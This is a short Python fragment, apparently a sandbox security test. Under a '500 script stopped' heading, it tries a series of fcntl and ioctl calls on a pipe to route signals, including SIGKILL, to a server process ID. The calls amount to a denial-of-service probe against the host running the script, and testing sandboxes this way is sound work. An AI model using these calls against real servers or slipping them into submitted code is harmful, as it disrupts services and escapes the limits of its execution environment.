# 500 script stopped
import fcntl
import os
reader, writer = os.pipe()
attempt(
    owner=lambda: fcntl.fcntl(reader, fcntl.F_SETOWN, SERVER_PID),
    signal=lambda: fcntl.fcntl(reader, 10, 9),
    owner_by_structure=lambda: fcntl.fcntl(reader, 15, (1).to_bytes(4, "little") + SERVER_PID.to_bytes(4, "little")),
    asynchronous=lambda: fcntl.ioctl(reader, 0x8901, SERVER_PID.to_bytes(4, "little")),
    lease=lambda: fcntl.fcntl(reader, 1024, 0),
    notify=lambda: fcntl.fcntl(reader, 1026, 1),
    pipe_size=lambda: fcntl.fcntl(reader, 1031, 1 << 20),
)
